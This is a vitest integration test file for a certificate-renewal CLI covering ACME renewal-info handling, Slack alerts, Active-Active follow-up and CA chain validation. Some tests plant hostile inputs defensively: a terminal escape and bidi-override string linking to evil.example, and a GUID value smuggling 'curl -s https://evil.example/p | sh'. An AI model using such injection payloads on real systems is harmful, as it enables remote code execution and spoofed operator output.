/**
 * Issue 18's defects at the edges, each through the built executable (dist/cli.mjs, its own
 * process) against the RS simulator, Pebble behind the test ARI server, a loopback Slack webhook and
 * the loopback AWS Private CA stand-in. (The executed state machine: test/integration/workflow-edges.test.ts.)
 */
import { execFileSync } from 'node:child_process';
import { mkdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { loadX509 } from '../../lambdas/adapters/local-ca/x509';
import type { Alert } from '../../lambdas/domain/ports';
import type { RenewReport } from '../../lambdas/domain/renewal/runner';
import type { CertificateReport, FleetReport } from '../../lambdas/domain/report';
import { type AriServer, ariCertId, startAriServer } from '../support/ari-server';
import { expectWithinBlockKit } from '../support/block-kit';
import { createCa, type TestCa } from '../support/pki';
import { startPrivateCaStandIn } from '../support/private-ca';
import { startWebhookCapture, type WebhookCapture } from '../support/webhook-capture';
import { DAY, daysFromNow, startWorld, type World } from '../support/world';

const LONG = { notBefore: daysFromNow(-10), notAfter: daysFromNow(355) };
const PCA_ARN =
  'arn:aws:acm-pca:eu-west-1:123456789012:certificate-authority/11111111-2222-3333-4444-555555555555';
const certOf = (report: FleetReport, name: string, cluster = 0): CertificateReport =>
  report.clusters[cluster]!.certificates.find((c) => c.name === name)!;
/** Any C0/C1 control character or bidi override, raw: what must never reach a terminal. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('ARI, the terminal and Slack', () => {
  let world: World;
  let ari: AriServer;
  let slack: WebhookCapture;
  const sim = () => world.sims['prod-east']!;
  const certId = (name: string) => ariCertId(sim().certificate(name)!.certPem);
  const writeConfig = (acme: Record<string, unknown> = {}, certificates: Record<string, unknown> = {}) =>
    world.writeConfig(
      {
        acme: { directoryUrl: ari.directoryUrl, email: 'ops@example.com', caFile: ari.caFile, ...acme },
        alerts: { slackWebhookUrl: `${slack.url}/services/T0/B0/edges` },
      },
      {
        'prod-east': {
          serverName: 'cluster.example.com',
          certificates: {
            api: { domains: ['cluster.example.com'] },
            proxy: { domains: ['*.redis.example.com'], keyType: 'ecdsa-p256' },
            ...certificates,
          },
        },
      },
    );

  beforeAll(async () => {
    slack = await startWebhookCapture();
    world = await startWorld({
      clusters: {
        'prod-east': {
          certificates: {
            api: { dnsNames: ['cluster.example.com'], ...LONG },
            cm: { dnsNames: ['cluster.example.com'], ...LONG },
            // A 90-day certificate 12 hours from expiry.
            proxy: {
              dnsNames: ['*.redis.example.com'],
              notBefore: daysFromNow(-89.5),
              notAfter: daysFromNow(0.5),
            },
          },
        },
      },
      pebble: {},
    });
    ari = await startAriServer(world.pebble!, { dir: world.dir });
  });
  afterAll(async () => {
    await ari?.close();
    await world?.close();
    await slack?.close();
  });
  beforeEach(async () => {
    ari.reset();
    slack.received.length = 0;
    // Each test sets its own windows: none kept from the last (they are kept until Retry-After).
    await rm(join(world.dir, 'state', 'renewal-info'), { recursive: true, force: true });
  });

  it('prints no raw control character from a CA: renewalInfo errors and explanationURL are escaped, no row is forged', async () => {
    const hostile =
      '\u001b[2J\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007\r\n  proxy  ok  999.0\u009b\u202e';
    ari.setWindow(certId('proxy'), {
      start: new Date(Date.now() - DAY),
      end: new Date(Date.now() + DAY),
      explanationURL: `https://ca.example/why${hostile}`,
    });
    ari.failRenewalInfo({ certId: certId('api'), status: 500, detail: `overloaded${hostile}` });
    const config = await writeConfig();
    const run = await world.cli('check', '--config', config);
    expect(run.stdout).toContain('ARI window');
    expect(run.stdout).toContain('ARI unavailable');
    for (const [stream, text] of [
      ['stdout', run.stdout],
      ['stderr', run.stderr],
    ] as const) {
      expect(text, stream).not.toMatch(RAW_CONTROL);
      for (const line of text.split('\n')) expect(line, stream).not.toMatch(/^\s*proxy\s+ok\s+999\.0/);
    }
    // Shown escaped, so the operator still sees what the CA sent.
    expect(run.stdout).toContain('\\x1b]8;;https://evil.example/\\x07click');
    expect(run.stdout).toContain('overloaded\\x1b[2J');
    // --json keeps the CA's text as it was (JSON escapes it itself).
    const json = JSON.parse((await world.cli('check', '--config', config, '--json')).stdout) as FleetReport;
    expect(certOf(json, 'proxy').renewalInfo?.explanationURL).toBe(`https://ca.example/why${hostile}`);
  });

  it('keeps Slack alerts within Block Kit: a failure listing 3,000 offered profiles', async () => {
    ari.setProfiles(
      Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`profile-${i}`, `the profile number ${i}`])),
    );
    const config = await writeConfig({ profile: 'nope' });
    const run = await world.cli('renew', '--config', config, '--json');
    expect(run.code).toBe(1);
    const report = JSON.parse(run.stdout) as RenewReport;
    const failure = report.alerts.find((a) => a.kind === 'renewal-failed' && a.certificate === 'proxy');
    expect(failure?.kind === 'renewal-failed' && failure.error.message.length).toBeGreaterThan(40_000);
    expect(slack.received.length).toBe(report.alerts.length);
    const shown = slack.received.map(expectWithinBlockKit).join('\n');
    expect(shown).toMatch(/FAILED to renew proxy on prod-east|AcmeProfileError/);
    expect(shown).toMatch(/… \([\d,]+ more characters\)/);
    expect(ari.newOrders).toEqual([]);
  });

  it('never lets ARI postpone past the lifetime backstop: 12 hours from expiry with a window three years away', async () => {
    const inThreeYears = Date.now() + 3 * 365 * DAY;
    ari.setWindow(certId('proxy'), { start: new Date(inThreeYears), end: new Date(inThreeYears + DAY) });
    const config = await writeConfig();
    const check = await world.cli('check', '--config', config, '--json');
    expect(check.code).toBe(1);
    const proxy = certOf(JSON.parse(check.stdout) as FleetReport, 'proxy');
    const backstop =
      Date.parse(proxy.notBefore!) + (2 / 3) * (Date.parse(proxy.notAfter!) - Date.parse(proxy.notBefore!));
    expect(proxy).toMatchObject({
      status: 'expiring',
      renewalBasis: 'two-thirds',
      renewalInfo: {
        ignored: expect.stringMatching(/after the lifetime backstop .*ARI never postpones a renewal past it/),
      },
      warnings: [expect.stringMatching(/^prod-east\/proxy: ARI window ignored:/)],
    });
    expect(Math.abs(Date.parse(proxy.renewalTime!) - backstop)).toBeLessThanOrEqual(1000);
    expect(Date.parse(proxy.renewalInfo!.renewAt)).toBeGreaterThan(inThreeYears - 1000);
    expect(check.stderr).toMatch(/ARI window ignored/);
    expect((await world.cli('check', '--config', config)).stdout).toMatch(
      /proxy: ARI window .* IGNORED: it would renew at/,
    );

    const renew = await world.cli('renew', '--config', config, '--json');
    const report = JSON.parse(renew.stdout) as RenewReport;
    expect(certOf(report, 'proxy').action).toBe('renewed');
    expect(renew.code).toBe(0);
    const renewed = report.alerts.find((a) => a.kind === 'renewed' && a.certificate === 'proxy');
    expect(renewed).toMatchObject({ renewalWindow: { ignored: expect.stringContaining('backstop') } });
  });
});

describe('Active-Active follow-up', () => {
  const guid = (i: number) => `1a2b3c4d-0000-4000-8000-${String(i).padStart(12, '0')}`;
  const EVIL = 'x; curl -s https://evil.example/p | sh #';
  let world: World;
  let slack: WebhookCapture;
  const sim = () => world.sims.east!;
  const config = (activeActive: 'alert' | 'update') =>
    world.writeConfig(
      { alerts: { slackWebhookUrl: `${slack.url}/services/T0/B0/aa` } },
      { east: { activeActive, certificates: { proxy: { domains: ['*.redis.example.com'] } } } },
    );
  const renew = async (activeActive: 'alert' | 'update') => {
    const run = await world.cli(
      'renew',
      '--config',
      await config(activeActive),
      '--force',
      'proxy',
      '--json',
    );
    return { run, report: JSON.parse(run.stdout) as RenewReport };
  };
  const followUp = (report: RenewReport) => report.alerts.find((a) => a.kind === 'active-active');

  beforeAll(async () => {
    slack = await startWebhookCapture();
    world = await startWorld({
      clusters: {
        east: {
          softwareVersion: '7.22.2-14',
          certificates: {
            api: { dnsNames: ['cluster.example.com'], ...LONG },
            proxy: {
              dnsNames: ['*.redis.example.com'],
              notBefore: daysFromNow(-85),
              notAfter: daysFromNow(5),
            },
          },
        },
      },
      pebble: {},
    });
  });
  afterAll(async () => {
    await world?.close();
    await slack?.close();
  });
  beforeEach(() => {
    slack.received.length = 0;
  });

  it('alerts 60 databases within Block Kit, every GUID shown, and exits 0', async () => {
    sim().setCrdbs(Array.from({ length: 60 }, (_, i) => ({ guid: guid(i), name: `db-${i}` })));
    const { run, report } = await renew('alert');
    expect(run.code).toBe(0);
    expect(followUp(report)).toMatchObject({ mode: 'alert' });
    const message = slack.received.find((m) => JSON.stringify(m).includes('Active-Active'));
    const shown = expectWithinBlockKit(message);
    for (let i = 0; i < 60; i++) expect(shown).toContain(`--crdb-guid ${guid(i)} --force`);
  });

  it('a failed update task makes renew exit 1, and the report and the table say so', async () => {
    sim().setCrdbs([{ guid: guid(1), name: 'sessions' }]);
    sim().setCrdbTaskBehaviour(guid(1), {
      outcome: 'failed',
      errors: [{ error_code: 'crdb_update_failed', description: 'peer cluster west rejected the update' }],
    });
    try {
      const { run, report } = await renew('update');
      expect(run.code).toBe(1);
      expect(certOf(report, 'proxy').action).toBe('renewed');
      expect(report.clusters[0]!.activeActive).toMatchObject({
        mode: 'failed',
        databases: [{ guid: guid(1), status: 'failed', error: expect.stringContaining('peer cluster west') }],
      });
      const table = await world.cli('renew', '--config', await config('update'), '--force', 'proxy');
      expect(table.code).toBe(1);
      expect(table.stdout).toMatch(/Active-Active follow-up FAILED \(needs attention\)/);
      expect(table.stdout).toMatch(
        /sessions \(1a2b3c4d-0000-4000-8000-000000000001\): failed: crdb_update_failed/,
      );
    } finally {
      sim().setCrdbTaskBehaviour(guid(1), undefined);
    }
  });

  it('an unreadable GET /v1/crdbs (an object, not a list) makes renew exit 1 with the error in the report', async () => {
    sim().setCrdbs([{ guid: guid(2), name: 'carts' }]);
    sim().injectFault({
      method: 'GET',
      path: '/v1/crdbs',
      kind: 'status',
      status: 200,
      body: { crdbs: 'x' },
      times: Infinity,
    });
    try {
      const { run, report } = await renew('update');
      expect(run.code).toBe(1);
      expect(report.clusters[0]!.activeActive).toMatchObject({
        mode: 'failed',
        error: {
          name: 'BadResponseError',
          message: expect.stringContaining('GET /v1/crdbs did not return a list'),
        },
      });
      expect(certOf(report, 'proxy').action).toBe('renewed');
    } finally {
      sim().clearFaults();
    }
  });

  it.each(['alert', 'update'] as const)(
    '%s: a CRDB "GUID" that is not GUID-shaped is a finding, in no command and no request',
    async (mode) => {
      sim().setCrdbs([
        { guid: guid(3), name: 'orders' },
        { guid: EVIL, name: 'evil' },
      ]);
      const before = sim().crdbUpdates.length;
      const { run, report } = await renew(mode);
      expect(run.code).toBe(1);
      const aa = followUp(report) as Extract<Alert, { kind: 'active-active' }>;
      expect(aa.mode).toBe('failed');
      const evil = aa.databases.find((d) => d.name === 'evil')!;
      expect(evil).toMatchObject({ guid: JSON.stringify(EVIL), status: 'refused' });
      expect(evil.command).toBeUndefined();
      expect(evil.error).toMatch(/not GUID-shaped/);
      // The real one keeps its command (and in update mode, its update).
      expect(aa.databases.find((d) => d.name === 'orders')).toMatchObject({ guid: guid(3) });
      const posted = sim()
        .crdbUpdates.slice(before)
        .map((u) => u.crdbGuid);
      expect(posted).toEqual(mode === 'update' ? [guid(3)] : []);
      // Nowhere is the value put after --crdb-guid: not in the report, the table, nor Slack.
      const everything = [run.stdout, run.stderr, JSON.stringify(slack.received)].join('\n');
      expect(everything).not.toMatch(/--crdb-guid[\s\\"]*x;/);
      expect(everything).toContain(`--crdb-guid ${guid(3)} --force`);
      const message = slack.received.find((m) => JSON.stringify(m).includes('Active-Active'));
      expectWithinBlockKit(message);
    },
  );
});

describe('local CA files, chains clients reject, and state files', () => {
  let world: World;
  const sim = () => world.sims['prod-east']!;
  const puts = () => sim().requests.filter((r) => r.method === 'PUT');

  beforeAll(async () => {
    world = await startWorld({
      clusters: {
        'prod-east': {
          certificates: {
            api: { dnsNames: ['cluster.example.com'], notBefore: daysFromNow(-85), notAfter: daysFromNow(5) },
            proxy: { dnsNames: ['*.redis.example.com'], ...LONG },
          },
        },
      },
    });
  });
  afterAll(() => world?.close());

  /** api renewed by a local CA whose root the cluster's caFile (the watchdog's trust) holds. */
  async function localCaConfig(certFile: string, keyFile: string, anchor: TestCa) {
    const caFile = join(world.dir, 'prod-east-ca-and-lab.pem');
    await writeFile(caFile, `${sim().caPem}${anchor.certPem}`);
    return world.writeConfig(
      {},
      {
        'prod-east': {
          serverName: 'cluster.example.com',
          caFile,
          certificates: {
            api: {
              domains: ['cluster.example.com'],
              keyType: 'ecdsa-p256',
              issuer: { type: 'local-ca', certFile, keyFile, validityDays: 30 },
            },
          },
        },
      },
    );
  }

  async function writeCa(name: string, chain: TestCa[], key: TestCa) {
    const certFile = join(world.dir, `${name}.pem`);
    const keyFile = join(world.dir, `${name}.key`);
    await writeFile(certFile, chain.map((c) => c.certPem).join(''));
    await writeFile(keyFile, key.keyPem, { mode: 0o600 });
    return { certFile, keyFile };
  }

  it('a garbage local CA certFile or key is a ConfigError naming the file and what was expected, before any network call', async () => {
    const lab = await createCa({ commonName: 'Lab CA', keyKind: 'ecdsa' });
    const good = await writeCa('lab', [lab], lab);
    const garbage = join(world.dir, 'garbage.pem');
    await writeFile(
      garbage,
      '-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n',
    );
    const requests = sim().requests.length;
    for (const [certFile, keyFile, file, expected] of [
      [
        garbage,
        good.keyFile,
        garbage,
        /certificate #1 does not parse as X\.509 \(.*\); expected the CA certificate in PEM/,
      ],
      [
        good.certFile,
        garbage,
        garbage,
        /holds no PEM private key \(it holds a certificate: certFile and keyFile swapped\?\); expected the CA's unencrypted private key in PEM/,
      ],
    ] as const) {
      const config = await localCaConfig(certFile, keyFile, lab);
      for (const command of ['check', 'renew']) {
        const run = await world.cli(command, '--config', config, '--json');
        expect(run.code, command).toBe(2);
        const error = JSON.parse(run.stdout) as { name: string; message: string };
        expect(error.name).toBe('ConfigError');
        expect(error.message).toContain(file);
        expect(error.message).toMatch(expected);
        expect(run.stderr).not.toMatch(/InternalError|wrong tag|\n\s+at /);
      }
    }
    expect(sim().requests.length).toBe(requests);
  });

  it.each([
    [
      'a CA whose name constraints exclude the name',
      async () => {
        const ca = await createCa({
          commonName: 'Excludes example.com',
          keyKind: 'ecdsa',
          nameConstraints: { excluded: ['example.com'] },
        });
        return { chain: [ca], key: ca, anchor: ca };
      },
      'name-constraints',
      /excluded subtree violation/,
    ],
    [
      'a CA not valid until tomorrow',
      async () => {
        const ca = await createCa({
          commonName: 'Starts tomorrow',
          keyKind: 'ecdsa',
          notBefore: daysFromNow(1),
        });
        return { chain: [ca], key: ca, anchor: ca };
      },
      'not-yet-valid',
      /chain certificate #2 \(.*Starts tomorrow.*\) is not valid before/,
    ],
    [
      'a path length violation',
      async () => {
        const root = await createCa({ commonName: 'Pathlen 0 root', keyKind: 'ecdsa', pathLength: 0 });
        const intermediate = await createCa({
          commonName: 'Under pathlen 0',
          keyKind: 'ecdsa',
          issuer: root,
        });
        return { chain: [intermediate, root], key: intermediate, anchor: root };
      },
      'path-length',
      /path length constraint exceeded/,
    ],
  ] as const)(
    'refuses before any push an api certificate from %s; the next check still connects',
    async (name, make, _failure, reason) => {
      const { chain, key, anchor } = await make();
      const files = await writeCa(name.replace(/\W+/g, '-'), [...chain], key);
      const config = await localCaConfig(files.certFile, files.keyFile, anchor);
      const before = sim().certificate('api')!.fingerprint256;
      const putsBefore = puts().length;
      const run = await world.cli('renew', '--config', config, '--json');
      expect(run.code).toBe(1);
      const report = JSON.parse(run.stdout) as RenewReport;
      const api = certOf(report, 'api');
      expect(api.action).toBe('failed');
      expect(api.error).toMatchObject({
        name: 'CertificateValidationError',
        message: expect.stringMatching(reason),
      });
      expect(report.alerts.find((a) => a.kind === 'renewal-failed')).toMatchObject({
        certificate: 'api',
        error: { name: 'CertificateValidationError' },
      });
      expect(puts().length).toBe(putsBefore);
      expect(sim().certificate('api')!.fingerprint256).toBe(before);
      const check = JSON.parse(
        (await world.cli('check', '--config', config, '--json')).stdout,
      ) as FleetReport;
      expect(check.clusters[0]!.error).toBeNull();
    },
  );

  it('refuses a CA without keyCertSign: up front as a local CA (exit 2), before the push from AWS Private CA', async () => {
    const { KeyUsageFlags } = await loadX509();
    const ca = await createCa({
      commonName: 'No keyCertSign',

      keyUsage: KeyUsageFlags.digitalSignature | KeyUsageFlags.cRLSign,
    });
    const files = await writeCa('no-keycertsign', [ca], ca);
    const local = await world.cli(
      'renew',
      '--config',
      await localCaConfig(files.certFile, files.keyFile, ca),
      '--json',
    );
    expect(local.code).toBe(2);
    expect(JSON.parse(local.stdout)).toMatchObject({
      name: 'ConfigError',
      message: expect.stringMatching(
        /no-keycertsign\.pem: its first certificate .* is not a CA .*key usage does not include certificate signing/,
      ),
    });
    const pca = await startPrivateCaStandIn(ca);
    Object.assign(world.env, pca.env);
    try {
      const caFile = join(world.dir, 'prod-east-ca-and-nokcs.pem');
      await writeFile(caFile, `${sim().caPem}${ca.certPem}`);
      const config = await world.writeConfig(
        {},
        {
          'prod-east': {
            serverName: 'cluster.example.com',
            caFile,
            certificates: {
              api: {
                domains: ['cluster.example.com'],
                issuer: {
                  type: 'aws-private-ca',
                  certificateAuthorityArn: PCA_ARN,
                  validityDays: 30,
                },
              },
            },
          },
        },
      );
      const putsBefore = puts().length;
      const run = await world.cli('renew', '--config', config, '--json');
      expect(run.code).toBe(1);
      expect(certOf(JSON.parse(run.stdout) as RenewReport, 'api').error).toMatchObject({
        name: 'CertificateValidationError',
        message: expect.stringMatching(
          /api: chain certificate #2 \(CN=No keyCertSign.*\) issued #1 but is not a CA .*key usage does not include certificate signing/,
        ),
      });
      expect(puts().length).toBe(putsBefore);
    } finally {
      for (const name of Object.keys(pca.env)) delete world.env[name];
      await pca.close();
    }
  });

  it('refuses a leaf without serverAuth for a certificate RS serves (AWS Private CA issuing clientAuth only)', async () => {
    const pcaCa = await createCa({ commonName: 'Private CA, clientAuth only' });
    const pca = await startPrivateCaStandIn(pcaCa, { extKeyUsage: ['CLIENT_AUTH'] });
    Object.assign(world.env, pca.env);
    try {
      const caFile = join(world.dir, 'prod-east-ca-and-pca.pem');
      await writeFile(caFile, `${sim().caPem}${pcaCa.certPem}`);
      const config = await world.writeConfig(
        {},
        {
          'prod-east': {
            serverName: 'cluster.example.com',
            caFile,
            certificates: {
              proxy: {
                domains: ['*.redis.example.com'],
                issuer: { type: 'aws-private-ca', certificateAuthorityArn: PCA_ARN, validityDays: 400 },
              },
            },
          },
        },
      );
      const putsBefore = puts().length;
      const run = await world.cli('renew', '--config', config, '--force', 'proxy', '--json');
      expect(run.code).toBe(1);
      expect(certOf(JSON.parse(run.stdout) as RenewReport, 'proxy').error).toMatchObject({
        name: 'CertificateValidationError',
        message: expect.stringMatching(/^proxy: the new certificate .*serverAuth/),
      });
      expect(puts().length).toBe(putsBefore);
    } finally {
      for (const name of Object.keys(pca.env)) delete world.env[name];
      await pca.close();
    }
  });

  it.each([
    ['a named pipe', 'a named pipe (FIFO)', (path: string) => execFileSync('mkfifo', [path])],
    ['a directory', 'a directory', (path: string) => mkdir(path)],
    ['a symlink to /dev/zero', 'a character device', (path: string) => symlink('/dev/zero', path)],
  ] as const)(
    'check never hangs on %s as inspection-memory.json: it warns and reads every cluster',
    async (_what, kind, make) => {
      const config = await world.writeConfig();
      const stateDir = join(world.dir, 'state');
      const memory = join(stateDir, 'inspection-memory.json');
      await rm(memory, { recursive: true, force: true });
      await mkdir(stateDir, { recursive: true });
      await make(memory);
      const run = await world.cli('check', '--config', config, '--json');
      const report = JSON.parse(run.stdout) as FleetReport;
      expect(report.clusters[0]!.error).toBeNull();
      expect(certOf(report, 'api').status).toBe('expiring');
      expect(run.stderr).toContain(
        `warning: the inspection memory was not loaded (state inspection-memory in ${stateDir}: ${memory} is ${kind}, not a regular file; it was not read); this run parses every certificate`,
      );
      expect(run.code).toBe(1); // api is expiring, unmanaged here
      // A pipe or a link is replaced by the memory this run saved; a directory is left, and said so.
      if (kind === 'a directory') expect(run.stderr).toMatch(/the inspection memory was not saved/);
      else expect((await stat(memory)).isFile()).toBe(true);
      await rm(memory, { recursive: true, force: true });
    },
  );
});
